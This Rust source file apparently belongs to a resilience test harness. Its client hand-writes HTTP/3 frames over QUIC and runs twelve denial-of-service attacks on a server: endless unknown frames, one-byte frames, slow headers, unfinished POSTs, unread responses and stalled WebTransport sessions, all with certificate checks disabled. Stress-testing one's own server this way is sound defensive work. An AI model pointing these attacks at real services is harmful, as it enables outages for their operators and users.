//! Attacks over QUIC, by a client that writes HTTP/3 (RFC 9114) by hand.

use std::{collections::BTreeMap, fmt, net::SocketAddr, sync::Arc, time::Duration};

use anyhow::Context as _;
use quinn::{Connection, ConnectionError, Endpoint, RecvStream, SendStream, TransportConfig};
use tokio::{
    task::JoinSet,
    time::{Instant, sleep, timeout_at},
};

use super::tls::Anybody;

/// What an attack has done.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Report {
    /// Connections that were made.
    pub connections: u64,
    /// Bytes of payload that the server's windows have taken.
    pub bytes: u64,
    /// How connections, or what was tried on them, have ended, and how often.
    pub ended: BTreeMap<String, u64>,
}

impl Report {
    fn ended(&mut self, how: impl Into<String>) {
        *self.ended.entry(how.into()).or_default() += 1;
    }
}

impl fmt::Display for Report {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} connections, {} bytes", self.connections, self.bytes)?;
        for (how, count) in &self.ended {
            write!(f, ", {how}: {count}")?;
        }
        Ok(())
    }
}

/// A kind of attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A frame without a meaning, of 2^40 bytes, on the control stream.
    ControlFrame,
    /// The same on the streams of requests, before their headers and after.
    RequestFrames,
    /// The same on the stream of a WebTransport session that says no Hello.
    ConnectFrame,
    /// A capsule without a meaning, of 2^40 bytes, in such a session.
    Capsule,
    /// Frames without a meaning of one byte each, on the control stream.
    ByteFrames,
    /// Bodies in DATA frames of one byte each.
    ByteData,
    /// Connections on which the server may open no unidirectional stream.
    NoStreams,
    /// Connections that say nothing after the handshake.
    Silent,
    /// Requests whose headers come a byte at a time.
    SlowHeaders,
    /// Requests with nearly all of their body: as many as the server allows, and another for each that
    /// it ends.
    UnfinishedPosts,
    /// Requests whose answers are not read: as many as the server allows, and another for each that it ends.
    UnreadAnswers,
    /// WebTransport sessions that say no Hello.
    NoHello,
}

impl Kind {
    /// Every kind.
    pub const ALL: &[Self] = &[
        Self::ControlFrame,
        Self::RequestFrames,
        Self::ConnectFrame,
        Self::Capsule,
        Self::ByteFrames,
        Self::ByteData,
        Self::NoStreams,
        Self::Silent,
        Self::SlowHeaders,
        Self::UnfinishedPosts,
        Self::UnreadAnswers,
        Self::NoHello,
    ];

    /// Attacks for so long, from this many connections at once. A connection that the server ends is
    /// followed by another.
    ///
    /// # Errors
    /// No socket can be opened here.
    pub async fn run(self, edge: SocketAddr, connections: usize, time: Duration) -> anyhow::Result<Report> {
        let client = Client::new(self.shape())?;
        let until = Instant::now() + time;
        let mut attackers = JoinSet::new();
        for _ in 0..connections {
            let client = client.clone();
            attackers.spawn(async move { self.attack(&client, edge, until).await });
        }
        let mut report = Report::default();
        while let Some(one) = attackers.join_next().await {
            let one = one.context("an attacker has panicked")?;
            report.connections += one.connections;
            report.bytes += one.bytes;
            for (how, count) in one.ended {
                *report.ended.entry(how).or_default() += count;
            }
        }
        client.endpoint.close(0_u32.into(), b"");
        Ok(report)
    }

    fn shape(self) -> Shape {
        match self {
            Self::NoStreams => Shape { streams: 0, ..Shape::default() },
            Self::UnreadAnswers => Shape { window: 256, ..Shape::default() },
            _ => Shape::default(),
        }
    }

    async fn attack(self, client: &Client, edge: SocketAddr, until: Instant) -> Report {
        let mut report = Report::default();
        while Instant::now() < until {
            let connection = match timeout_at(until, client.connect(edge)).await {
                Ok(Ok(connection)) => connection,
                Ok(Err(error)) => {
                    report.ended(format!("refused: {error}"));
                    sleep(Duration::from_millis(50)).await;
                    continue;
                }
                Err(_) => break,
            };
            report.connections += 1;
            let tried = timeout_at(until, self.on(&connection, &mut report)).await;
            if let Ok(Err(error)) = &tried {
                report.ended(error.to_string());
                sleep(Duration::from_millis(5)).await;
            }
            connection.close(0_u32.into(), b"");
        }
        report
    }

    /// Attacks on a connection until it ends.
    async fn on(self, connection: &Connection, report: &mut Report) -> Result<(), ConnectionError> {
        match self {
            Self::NoStreams | Self::Silent => return Err(connection.closed().await),
            _ => {}
        }
        let mut control = control(connection).await?;
        match self {
            Self::NoStreams | Self::Silent => {}
            Self::ControlFrame => {
                _ = control.write_all(&frame_head(UNKNOWN, ENDLESS)).await;
                pour(&mut control, &[0; 16 * 1024], report).await;
            }
            Self::ByteFrames => pour(&mut control, &frame(UNKNOWN, &[0]).repeat(5_000), report).await,
            Self::ConnectFrame | Self::Capsule | Self::NoHello => {
                let (mut send, _recv) = open(connection, &connect("webtransport")).await?;
                match self {
                    Self::ConnectFrame => _ = send.write_all(&frame_head(UNKNOWN, ENDLESS)).await,
                    Self::Capsule => {
                        let capsule = [frame_head(DATA, ENDLESS * 2), frame_head(UNKNOWN, ENDLESS)].concat();
                        _ = send.write_all(&capsule).await;
                    }
                    _ => return Err(connection.closed().await),
                }
                pour(&mut send, &[0; 16 * 1024], report).await;
            }
            _ => return self.requests(connection, report).await,
        }
        Err(connection.closed().await)
    }

    /// As many requests as the server allows, one after the other, until the connection ends.
    async fn requests(self, connection: &Connection, report: &mut Report) -> Result<(), ConnectionError> {
        let mut tried = JoinSet::new();
        let mut count = 0_usize;
        loop {
            tokio::select! {
                // Waits while the server allows no more.
                stream = connection.open_bi() => {
                    let (send, recv) = stream?;
                    count += 1;
                    tried.spawn(self.request(send, recv, count));
                }
                Some(one) = tried.join_next() => {
                    let (bytes, how) = one.unwrap_or((0, "a request has panicked"));
                    report.bytes += bytes;
                    report.ended(how);
                }
                error = connection.closed() => return Err(error),
            }
        }
    }

    /// One of the requests: the bytes that it has sent, and how it ended.
    async fn request(self, mut send: SendStream, mut recv: RecvStream, count: usize) -> (u64, &'static str) {
        let mut report = Report::default();
        let post = request("POST", "/v1/sync");
        match self {
            Self::RequestFrames => {
                let first = if count.is_multiple_of(2) { post } else { Vec::new() };
                _ = send.write_all(&[first, frame_head(UNKNOWN, ENDLESS)].concat()).await;
                pour(&mut send, &[0; 16 * 1024], &mut report).await;
            }
            Self::ByteData => {
                _ = send.write_all(&post).await;
                pour(&mut send, &frame(DATA, b" ").repeat(5_000), &mut report).await;
            }
            Self::SlowHeaders => {
                _ = send.write_all(&frame_head(HEADERS, 16 * 1024)).await;
                while send.write_all(&[0]).await.is_ok() {
                    report.bytes += 1;
                    sleep(Duration::from_millis(100)).await;
                }
            }
            Self::UnreadAnswers => {
                // Of the public answers it is the largest.
                _ = send.write_all(&request("GET", "/openapi.json")).await;
                _ = send.finish();
                return match recv.received_reset().await {
                    Ok(Some(_)) => (0, "reset"),
                    Ok(None) | Err(_) => (0, "ended"),
                };
            }
            _ => {
                let body = [post, frame_head(DATA, 64 * 1024), vec![b' '; 64 * 1024 - 1]].concat();
                if send.write_all(&body).await.is_ok() {
                    report.bytes += body.len() as u64;
                }
            }
        }
        match recv.read_to_end(64 * 1024).await {
            Ok(_) => (report.bytes, "answered"),
            Err(quinn::ReadToEndError::Read(quinn::ReadError::Reset(_))) => (report.bytes, "reset"),
            Err(_) => (report.bytes, "ended"),
        }
    }
}

/// What the attackers grant the server.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Shape {
    /// Unidirectional streams that it may open.
    pub streams: u32,
    /// Bytes that it may send on a stream before they are read.
    pub window: u32,
}

impl Default for Shape {
    fn default() -> Self {
        Self { streams: 8, window: 64 * 1024 }
    }
}

/// Makes connections for HTTP/3, to servers with any certificate.
#[derive(Debug, Clone)]
pub struct Client {
    endpoint: Endpoint,
}

impl Client {
    /// A client with a socket of its own.
    ///
    /// # Errors
    /// No socket can be opened.
    pub fn new(shape: Shape) -> anyhow::Result<Self> {
        let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
        let mut tls = rustls::ClientConfig::builder_with_provider(provider.clone())
            .with_protocol_versions(&[&rustls::version::TLS13])?
            .dangerous()
            .with_custom_certificate_verifier(Arc::new(Anybody(provider)))
            .with_no_client_auth();
        tls.alpn_protocols = vec![b"h3".to_vec()];
        let mut config = quinn::ClientConfig::new(Arc::new(quinn::crypto::rustls::QuicClientConfig::try_from(tls)?));
        let mut transport = TransportConfig::default();
        transport.max_concurrent_uni_streams(shape.streams.into()).stream_receive_window(shape.window.into());
        // Silence is the server's to notice.
        transport.max_idle_timeout(None).keep_alive_interval(Some(Duration::from_secs(3)));
        config.transport_config(Arc::new(transport));
        let mut endpoint =
            Endpoint::client("[::]:0".parse()?).or_else(|_| Endpoint::client(([0, 0, 0, 0], 0).into()))?;
        endpoint.set_default_client_config(config);
        Ok(Self { endpoint })
    }

    /// A connection, after its handshake.
    ///
    /// # Errors
    /// There is none.
    pub async fn connect(&self, edge: SocketAddr) -> anyhow::Result<Connection> {
        // The socket is of both families.
        let edge = match (self.endpoint.local_addr()?, edge) {
            (SocketAddr::V6(_), SocketAddr::V4(v4)) => (v4.ip().to_ipv6_mapped(), v4.port()).into(),
            _ => edge,
        };
        Ok(self.endpoint.connect(edge, "localhost")?.await?)
    }
}

/// A control stream with the settings of WebTransport clients: HTTP datagrams, and 0x2b603742.
///
/// # Errors
/// The connection has ended.
pub async fn control(connection: &Connection) -> Result<SendStream, ConnectionError> {
    let mut control = connection.open_uni().await?;
    _ = control.write_all(&[0, 4, 7, 0x33, 1, 0xab, 0x60, 0x37, 0x42, 1]).await;
    Ok(control)
}

/// Opens a request's stream with these bytes.
///
/// # Errors
/// The connection has ended.
pub async fn open(connection: &Connection, bytes: &[u8]) -> Result<(SendStream, RecvStream), ConnectionError> {
    let (mut send, recv) = connection.open_bi().await?;
    // It fails with the connection, which then says so itself.
    _ = send.write_all(bytes).await;
    Ok((send, recv))
}

/// The HEADERS frame of a request.
#[must_use]
pub fn request(method: &str, path: &str) -> Vec<u8> {
    headers(&[(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path)])
}

/// The HEADERS frame of an extended CONNECT to `/wt` (RFC 9220).
#[must_use]
pub fn connect(protocol: &str) -> Vec<u8> {
    headers(&[
        (":method", "CONNECT"),
        (":protocol", protocol),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", "/wt"),
    ])
}

/// A HEADERS frame of literal lines without Huffman's form (RFC 9204 section 4.5.6).
#[must_use]
pub fn headers(fields: &[(&str, &str)]) -> Vec<u8> {
    let mut section = vec![0, 0];
    for (name, value) in fields {
        put_integer(&mut section, 0b0010_0000, 3, name.len());
        section.extend_from_slice(name.as_bytes());
        put_integer(&mut section, 0, 7, value.len());
        section.extend_from_slice(value.as_bytes());
    }
    frame(HEADERS, &section)
}

/// A frame (RFC 9114 section 7.1).
#[must_use]
pub fn frame(kind: u64, payload: &[u8]) -> Vec<u8> {
    [frame_head(kind, payload.len() as u64), payload.to_vec()].concat()
}

/// A frame's type and length.
#[must_use]
pub fn frame_head(kind: u64, length: u64) -> Vec<u8> {
    let mut out = Vec::new();
    put_varint(&mut out, kind);
    put_varint(&mut out, length);
    out
}

/// Writes the same bytes again and again, until the stream or its connection ends.
pub async fn pour(send: &mut SendStream, bytes: &[u8], report: &mut Report) {
    while let Ok(written) = send.write(bytes).await {
        report.bytes += written as u64;
        // What was cut is begun anew at the right place.
        let Some(rest) = bytes.get(written..) else { return };
        if send.write_all(rest).await.is_err() {
            return;
        }
        report.bytes += rest.len() as u64;
    }
}

/// A variable-length integer (RFC 9000 section 16).
fn put_varint(out: &mut Vec<u8>, value: u64) {
    match value {
        0..0x40 => out.push(value as u8),
        0x40..0x4000 => out.extend_from_slice(&(value as u16 | 0x4000).to_be_bytes()),
        0x4000..0x4000_0000 => out.extend_from_slice(&(value as u32 | 0x8000_0000).to_be_bytes()),
        _ => out.extend_from_slice(&(value | 0xc000_0000_0000_0000).to_be_bytes()),
    }
}

/// An integer with a prefix (RFC 7541 section 5.1).
fn put_integer(out: &mut Vec<u8>, flags: u8, bits: u32, value: usize) {
    let most = usize::from(u8::MAX >> (8 - bits));
    if value < most {
        return out.push(flags | value as u8);
    }
    out.push(flags | most as u8);
    let mut rest = value - most;
    while rest >= 128 {
        out.push(rest as u8 | 128);
        rest /= 128;
    }
    out.push(rest as u8);
}

/// A type that frames and capsules of no meaning have (RFC 9114 section 7.2.8).
pub const UNKNOWN: u64 = 0x21;
/// DATA.
pub const DATA: u64 = 0;
/// HEADERS.
pub const HEADERS: u64 = 1;
/// A length that is never reached.
pub const ENDLESS: u64 = 1 << 40;
